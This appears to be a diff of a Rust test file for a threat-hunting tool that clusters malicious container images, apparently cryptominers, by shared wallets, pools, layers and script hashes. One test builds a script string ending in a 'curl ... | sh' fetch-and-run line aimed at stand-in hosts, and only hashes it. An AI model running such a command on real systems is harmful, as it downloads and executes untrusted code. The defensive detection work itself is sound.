@@ -1,84 +1,14 @@
 //! Ties and clusters, on made-up images that share what actors share.
 
-use std::collections::{BTreeMap, BTreeSet, HashMap};
+mod common;
 
-use lazaret_hunt::graph::{Graph, ImageInput, LinkInput, Reason, Relation};
+use std::collections::{BTreeMap, BTreeSet};
+
+use common::{Draft, World};
+use lazaret_hunt::graph::{Graph, ImageInput, Judged, Reason, Relation};
 use lazaret_model::IndicatorKind::{self, *};
+use lazaret_model::Role;
 use proptest::prelude::*;
-
-/// Images as a test writes them down.
-#[derive(Default)]
-struct World {
-    graph: Graph,
-    numbers: HashMap<(IndicatorKind, String), u32>,
-    inputs: Vec<ImageInput>,
-}
-
-struct Draft<'w> {
-    world: &'w mut World,
-    input: ImageInput,
-}
-
-impl World {
-    fn image(&mut self, account: &str, repository: &str) -> Draft<'_> {
-        let input = ImageInput {
-            publisher: account.to_owned(),
-            repository: format!("{account}/{repository}"),
-            name: "latest".to_owned(),
-            convicted: true,
-            ..ImageInput::default()
-        };
-        Draft { world: self, input }
-    }
-
-    fn indicator(&mut self, kind: IndicatorKind, value: &str) -> u32 {
-        let graph = &mut self.graph;
-        *self.numbers.entry((kind, value.to_owned())).or_insert_with(|| graph.indicator(kind, value))
-    }
-
-    fn clustered(&mut self) -> Vec<Vec<u32>> {
-        for input in &self.inputs {
-            self.graph.insert(input);
-        }
-        self.graph.cluster();
-        self.graph.clusters()
-    }
-}
-
-impl Draft<'_> {
-    fn honest(mut self) -> Self {
-        self.input.convicted = false;
-        self
-    }
-
-    fn on(mut self, layers: &[u64]) -> Self {
-        self.input.stacks = vec![layers.to_vec()];
-        self
-    }
-
-    fn has(self, kind: IndicatorKind, value: &str) -> Self {
-        self.at(kind, value, None, 0)
-    }
-
-    fn at(mut self, kind: IndicatorKind, value: &str, layer: Option<u32>, place: u64) -> Self {
-        let indicator = self.world.indicator(kind, value);
-        self.input.links.push(LinkInput { indicator, layer, place, named: false });
-        self
-    }
-
-    fn named(mut self) -> Self {
-        if let Some(last) = self.input.links.last_mut() {
-            last.named = true;
-        }
-        self
-    }
-
-    fn seen(self) -> u32 {
-        let at = self.world.inputs.len() as u32;
-        self.world.inputs.push(self.input);
-        at
-    }
-}
 
 #[test]
 fn ten_accounts_with_one_wallet_are_one_actor() {
@@ -292,28 +222,222 @@ fn an_unconvicted_image_with_a_members_wallet_or_layers_is_a_lead_and_no_member(
     assert_eq!(world.clustered(), [vec![one, two]]);
     let leads: Vec<u32> = world.graph.leads(&[one, two]).into_iter().map(|(image, _)| image).collect();
     assert_eq!(leads, [holder]);
-    assert_eq!(world.graph.built_on_members(&[one, two]), [(upper, one)]);
+    assert_eq!(world.graph.built_on_members(&[one, two], &world.graph.above()), [(upper, one)]);
     assert_eq!(world.graph.of_its_publishers(&[one, two]), [sibling]);
+}
+
+#[test]
+fn an_image_of_which_something_was_not_read_vouches_for_nothing() {
+    let mut world = World::default();
+    let first = world.image("hub/a", "x").has(Wallet, "xmr:4a").on(&[1, 2]).seen();
+    let second = world.image("hub/b", "y").has(Wallet, "xmr:4a").on(&[3, 4]).seen();
+    // As many as would end what the wallet says, had anybody looked at them.
+    for decoy in 0..40 {
+        world.image(&format!("hub/d{decoy}"), "x").unread().has(Wallet, "xmr:4a").seen();
+    }
+    // Nor do they make a layer anybody's base.
+    for account in ["hub/c", "hub/c2"] {
+        world
+            .image(account, "z")
+            .on(&[7, account.len() as u64])
+            .at(ScriptHash, "agent", Some(0), 5)
+            .at(BuilderTrace, "user dm", Some(0), 0)
+            .at(BuilderTrace, "user dm", Some(1), 0)
+            .at(Layer, account, Some(1), 0)
+            .seen();
+    }
+    world.image("hub/d0", "base").unread().on(&[7]).at(ScriptHash, "agent", Some(0), 5).seen();
+    let clusters = world.clustered();
+    assert_eq!(clusters, [vec![first, second]]);
+    assert!(
+        world.graph.tied(42, 43).reasons.iter().any(|(reason, _)| matches!(reason, Reason::Indicator(_)))
+    );
+    let leads: Vec<u32> = world.graph.leads(&[first, second]).into_iter().map(|(image, _)| image).collect();
+    assert_eq!(leads, (2..42).collect::<Vec<_>>(), "they are leads all the same");
+}
+
+#[test]
+fn two_actors_who_fetch_from_one_public_place_stay_two() {
+    let release = "https://github.com/xmrig/xmrig/releases/download/v6/xmrig.tar.gz";
+    let mut world = World::default();
+    for actor in ["hub/one", "hub/two", "hub/three"] {
+        for name in ["mysql", "redis"] {
+            world
+                .image(actor, name)
+                .has(Wallet, &format!("xmr:{actor}"))
+                .has(Url, release)
+                .has(Host, "github.com")
+                .has(Host, "8.8.8.8")
+                .has(Pool, "stratum+tcp://pool.supportxmr.com:3333")
+                .has(PoolLogin, "YOUR_WALLET_ADDRESS")
+                .at(ElfHash, "xmrig", None, 12)
+                .at(ScriptHash, "setup", None, 13)
+                .seen();
+        }
+    }
+    assert_eq!(world.clustered(), [vec![0, 1], vec![2, 3], vec![4, 5]]);
+}
+
+#[test]
+fn a_popular_base_with_one_malicious_child_drags_nobody_in() {
+    let mut world = World::default();
+    let on_base = |draft: Draft<'_>| -> u32 {
+        draft
+            .at(Wallet, "xmr:donations", Some(0), 3)
+            .at(SshKey, "insecure", Some(0), 4)
+            .at(Url, "https://app.example.test/update", Some(1), 5)
+            .at(ScriptHash, "entrypoint", Some(1), 5)
+            .at(BuilderTrace, "user maintainer", Some(1), 0)
+            .at(Environment, "APP_MODE=x9", Some(1), 0)
+            .seen()
+    };
+    on_base(world.image("hub/app", "app").honest().on(&[1, 2]));
+    let child =
+        on_base(world.image("hub/evil", "app").on(&[1, 2, 3]).at(ScriptHash, "evil", Some(2), 9).named());
+    let other =
+        on_base(world.image("hub/worse", "app").on(&[1, 2, 4]).at(ScriptHash, "worse", Some(2), 9).named());
+    for user in 0..3 {
+        on_base(world.image(&format!("hub/user{user}"), "app").honest().on(&[1, 2, 10 + user]));
+    }
+    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
+    assert_eq!(world.graph.tied(child, other).bits, 0, "{:?}", world.graph.tied(child, other));
+    assert_eq!(world.graph.leads(&[child]), []);
+    assert_eq!(world.graph.built_on_members(&[child], &world.graph.above()), []);
+}
+
+#[test]
+fn a_wallet_in_a_layer_of_a_clean_image_ties_those_whose_findings_name_it() {
+    let mut world = World::default();
+    // A clean image beside it does not take a wallet from whom it pays.
+    world.image("hub/decoy", "clean").honest().on(&[1, 2]).at(Wallet, "xmr:4a", Some(1), 3).seen();
+    let one = world.image("hub/a", "x").on(&[1, 2, 3]).at(Wallet, "xmr:4a", Some(1), 3).named().seen();
+    let two = world.image("hub/b", "y").on(&[1, 2, 4]).at(Wallet, "xmr:4a", Some(1), 3).named().seen();
+    let by_layer = world.image("hub/c", "z").on(&[1, 2, 5]).at(Wallet, "xmr:4a", Some(1), 3).seen();
+    assert_eq!(world.clustered(), [vec![one, two]]);
+    assert!(world.graph.tied(one, by_layer).bits < 16_000);
+}
+
+#[test]
+fn a_zone_a_user_and_a_variable_of_a_thousand_honest_images_tie_nobody_and_no_zone_ties_with_a_kit() {
+    let mut world = World::default();
+    for honest in 0..1000 {
+        world
+            .image(&format!("hub/h{honest}"), "x")
+            .honest()
+            .has(BuilderTrace, "zone +02:00")
+            .has(BuilderTrace, "user u1001")
+            .has(Environment, "NODE_OPTIONS_X=--max")
+            .seen();
+    }
+    for actor in ["hub/one", "hub/two"] {
+        world
+            .image(actor, "x")
+            .has(BuilderTrace, "zone +02:00")
+            .has(BuilderTrace, "user u1001")
+            .has(Environment, "NODE_OPTIONS_X=--max")
+            .at(ScriptHash, "kit", None, 9)
+            .seen();
+    }
+    for actor in ["hub/three", "hub/four"] {
+        world.image(actor, "x").has(BuilderTrace, "zone +08:00").at(ScriptHash, "other kit", None, 9).seen();
+    }
+    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
+}
+
+#[test]
+fn an_actor_with_one_image_is_no_campaign_and_one_more_tag_is_none_either() {
+    let mut world = World::default();
+    world.image("hub/a", "x").has(Wallet, "xmr:4a").has(SshKey, "k").has(Host, "203.0.113.9").seen();
+    world.image("hub/b", "x").has(Wallet, "xmr:4b").has(SshKey, "l").has(Host, "203.0.113.10").seen();
+    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
+}
+
+#[test]
+fn a_mirror_of_samples_joins_actors_until_a_person_says_that_it_is_one() {
+    let draw = |refuted: bool| {
+        let mut world = World::default();
+        for actor in ["hub/one", "hub/two"] {
+            for account in [actor, "hub/researcher"] {
+                world
+                    .image(account, &actor.replace('/', "-"))
+                    .has(Wallet, &format!("xmr:{actor}"))
+                    .at(ElfHash, "xmrig", None, 12)
+                    .seen();
+            }
+        }
+        if refuted {
+            world.graph.refute_account("hub/researcher");
+        }
+        world.clustered()
+    };
+    // One account with two purses and one miner is one maker, as far as anybody can tell.
+    assert_eq!(draw(false), [vec![0, 1, 2, 3]]);
+    assert_eq!(draw(true), [vec![0, 1], vec![2, 3]]);
+}
+
+#[test]
+fn a_refuted_script_stays_refuted_when_another_variant_comes_to_stand_for_it() {
+    let text = |target: &str| {
+        let mut text = String::from("#!/bin/sh\nset -e\n");
+        for step in 0..40 {
+            text.push_str(&format!("echo preparing step {step} of the service && sleep {}\n", step * 7 % 11));
+        }
+        text.push_str(&format!("curl -fsS http://{target}/install | sh\n"));
+        let hash = tlsh2::TlshDefaultBuilder::build_from(text.as_bytes()).expect("varied enough");
+        format!("script {}", String::from_utf8_lossy(&hash.hash()))
+    };
+    let (one, other) = (text("a.invalid"), text("bb.example"));
+    assert_ne!(one, other);
+    let mut world = World::default();
+    world.image("hub/a", "x").at(FuzzyHash, &one, None, 3).has(Host, "203.0.113.9").seen();
+    world.image("hub/b", "y").at(FuzzyHash, &other, None, 3).has(Host, "203.0.113.9").seen();
+    let refuted = world.indicator(FuzzyHash, &other);
+    world.graph.refute_indicator(refuted);
+    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
+    assert!(world.graph.is_refuted(refuted));
+}
+
+#[test]
+fn a_campaign_of_thousands_is_told_in_bounded_time() {
+    let mut world = World::default();
+    for at in 0..12_000 {
+        let draft = world.image(&format!("hub/a{}", at % 500), &format!("x{at}")).has(Wallet, "xmr:4a");
+        draft.has(SshKey, "k").has(Url, "http://203.0.113.9/a").on(&[1, 2, at]).seen();
+    }
+    let clusters = world.clustered();
+    assert_eq!(clusters.len(), 1);
+    let begun = std::time::Instant::now();
+    let ties = world.graph.ties(&clusters[0], 500);
+    assert!(ties.len() >= 11_999);
+    assert!(begun.elapsed().as_secs() < 10, "{:?}", begun.elapsed());
 }
 
 /// What a random image may hold.
 const KINDS: [IndicatorKind; 11] =
     [Wallet, SshKey, PoolLogin, Url, Host, Layer, ScriptHash, ElfHash, BuilderTrace, Environment, Label];
 
-type Links = Vec<(usize, u8, Option<u32>, u64, bool)>;
+type Links = Vec<(usize, u8, Option<u32>, u64, Role)>;
 
-fn random_image() -> impl Strategy<Value = (u8, u8, bool, Vec<u64>, Links)> {
-    let link = (0..KINDS.len(), 0u8..4, prop::option::of(0u32..3), 0u64..6, prop::bool::weighted(0.2));
+fn random_image() -> impl Strategy<Value = (u8, u8, Judged, Vec<u64>, Links)> {
+    let role = prop_oneof![
+        10 => Just(Role::Lies),
+        1 => Just(Role::Mentioned),
+        1 => Just(Role::Named),
+        1 => Just(Role::Acts),
+        1 => Just(Role::Suspected),
+        3 => Just(Role::Harms),
+    ];
+    let link = (0..KINDS.len(), 0u8..4, prop::option::of(0u32..3), 0u64..6, role);
     (
         0u8..7,
         0u8..3,
-        prop::bool::weighted(0.7),
+        prop_oneof![7 => Just(Judged::Convicted), 2 => Just(Judged::Clean), 1 => Just(Judged::Unknown)],
         prop::collection::vec(0u64..5, 0..4),
         prop::collection::vec(link, 0..7),
     )
 }
 
-fn world_of(images: &[(u8, u8, bool, Vec<u64>, Links)]) -> World {
+fn world_of(images: &[(u8, u8, Judged, Vec<u64>, Links)]) -> World {
     let mut world = World::default();
     for (kind, _) in KINDS.iter().zip(0..) {
         for value in 0..4 {
@@ -322,19 +446,17 @@ fn world_of(images: &[(u8, u8, bool, Vec<u64>, Links)]) -> World {
     }
     world.graph.refute_pair("hub/0/r0", "hub/1/r0");
     world.graph.refute_pair("hub/0/r0", "hub/2/r1");
+    world.graph.refute_account("hub/6");
     let refuted = world.indicator(Label, "label0.invalid");
     world.graph.refute_indicator(refuted);
     world.graph.trust_layer(4);
-    for (at, (account, repository, convicted, layers, links)) in images.iter().enumerate() {
+    for (at, (account, repository, judged, layers, links)) in images.iter().enumerate() {
         let mut draft = world.image(&format!("hub/{account}"), &format!("r{repository}")).on(layers);
         draft.input.name = at.to_string();
-        draft.input.convicted = *convicted;
-        for (kind, value, layer, place, named) in links {
+        draft.input.judged = *judged;
+        for (kind, value, layer, place, role) in links {
             let kind = KINDS[*kind];
-            draft = draft.at(kind, &format!("{}{value}.invalid", kind.name()), *layer, *place);
-            if *named {
-                draft = draft.named();
-            }
+            draft = draft.at(kind, &format!("{}{value}.invalid", kind.name()), *layer, *place).is(*role);
         }
         draft.seen();
     }
